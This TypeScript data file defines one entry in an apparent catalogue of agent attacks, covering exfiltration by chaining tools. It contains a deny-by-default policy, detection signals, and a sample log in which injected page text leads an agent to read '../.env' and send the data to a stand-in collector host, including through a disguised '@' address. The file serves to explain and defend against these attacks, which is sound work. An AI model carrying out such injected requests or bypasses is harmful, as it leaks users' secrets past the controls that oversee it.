import type { Attack } from './attack';
import { exampleTool } from './example-tool';
import { sources } from './sources';

export const exfiltration: Attack = {
  slug: 'exfiltration-by-chaining',
  title: 'Exfiltration by chaining tools',
  summary:
    'One tool reads what is private and another carries it outside; each of them alone looks harmless. Without rules on their arguments, every call in the log is one that the agent was allowed to make.',
  severity: 'Critical',
  containment: 'partly',
  steps: [
    'Three things come together in one session: access to private data, text that a stranger wrote, and any way to the outside. Servers are granted one by one, so nobody sees the third arrive.',
    'The text asks for the data and names the way.',
    'The way out need not look like one: an address that is fetched carries data in its path or query, a search term ends in a stranger’s log, a public issue or the address of an image serves as well.',
    'What arrives outside looks like an ordinary request.',
  ],
  exposed:
    'Tools that read files, mail, records or secrets on one side. On the other, tools that take an address, a recipient, or text that others will see.',
  exposures: [
    {
      categories: ['Read'],
      severities: ['High', 'Critical'],
      weight: 9,
      because: 'what it reads is worth stealing',
    },
    { signals: ['url'], weight: 8, because: 'data can leave in the address it is given' },
    { categories: ['Read'], signals: ['path'], weight: 8, because: 'it reads from a path that the agent chooses' },
    { categories: ['Execute'], signals: ['code', 'sql'], weight: 7, because: 'what it runs can read and send' },
    {
      verbs: [
        'send',
        'post',
        'share',
        'publish',
        'forward',
        'reply',
        'upload',
        'comment',
        'tweet',
        'broadcast',
        'email',
      ],
      weight: 7,
      because: 'what it is given leaves for others to read',
    },
    { categories: ['Write'], signals: ['html'], weight: 5, because: 'what it writes is shown to others' },
    { categories: ['Read'], weight: 4, because: 'what it reads can be passed to any other tool' },
  ],
  tools: [
    exampleTool('read_file', { path: 'string' }),
    exampleTool('fetch_url', { url: 'string' }),
    exampleTool('create_issue', { repository: 'string', title: 'string', body: 'string' }),
  ],
  policy: {
    version: '1',
    default: 'deny',
    tools: {
      read_file: {
        require: [
          {
            conditions: [{ path: 'args.path', op: 'path_within', value: ['/workspace/docs'] }],
            on_deny: 'Only the documentation may be read.',
          },
        ],
      },
      fetch_url: {
        require: [
          {
            conditions: [{ path: 'args.url', op: 'host_in', value: ['docs.example.com'] }],
            on_deny: 'Only docs.example.com may be fetched.',
          },
        ],
        limits: [{ counter: 'fetch_url_rate', window: 'minute', max: 20, scope: 'grant' }],
      },
      create_issue: {
        action: 'require_approval',
        reason: 'What others can read is published by a person.',
        limits: [{ counter: 'create_issue_rate', window: 'hour', max: 10, scope: 'grant' }],
      },
    },
  },
  effect:
    'Both ends of the chain are bounded: what is read lies in one folder, a request is addressed to one host, and what becomes public waits for a person. An address whose host two parsers could read differently is refused, and so is a path with a backslash or a leading ~.',
  calls: [
    {
      at: 0,
      tool: 'read_file',
      args: { path: '/workspace/docs/setup.md' },
      outcome: 'allow',
      says: 'the agent reads the documentation',
    },
    {
      at: 4,
      tool: 'fetch_url',
      args: { url: 'https://docs.example.com/setup' },
      outcome: 'allow',
      says: 'and compares it with what is published',
    },
    {
      at: 12,
      tool: 'read_file',
      args: { path: '/workspace/docs/../.env' },
      outcome: 'deny',
      says: 'a sentence in that page asks for the secrets beside the documentation',
    },
    {
      at: 15,
      tool: 'fetch_url',
      args: { url: 'https://collect.example.net/?d=IyBTZXR1cA' },
      outcome: 'deny',
      says: 'then for what was read to be sent to a foreign host',
    },
    {
      at: 17,
      tool: 'fetch_url',
      args: { url: 'https://docs.example.com@collect.example.net/?d=IyBTZXR1cA' },
      outcome: 'deny',
      says: 'or to an address that only looks like the allowed host',
    },
    {
      at: 25,
      tool: 'create_issue',
      args: { repository: 'acme/site', title: 'Setup', body: 'IyBTZXR1cA' },
      outcome: 'hold',
      says: 'or into a public issue',
    },
  ],
  remains: [
    'A host that is allowed can receive whatever may be read: a rule on the host does not look at the query. It does not see either where the server goes on to when that host redirects it.',
    'Paths are compared by their text. A symbolic link out of the folder, or %2e%2e in a path that the server decodes, is the server’s to refuse.',
    'The chain can use a tool of another server, or the client’s own browser, under another policy or none.',
    'The answer that the agent shows its user can itself carry data out, for instance as the address of an image that the client loads.',
  ],
  signals: [
    'A refusal by a host rule shortly after files or records were read.',
    'Many reads and then one call with text that others can see.',
    'A tool that takes an address, called under a grant whose task has nothing to fetch.',
  ],
  sources: [sources.lethalTrifecta, sources.disclosure, sources.mcpOverSharing],
};
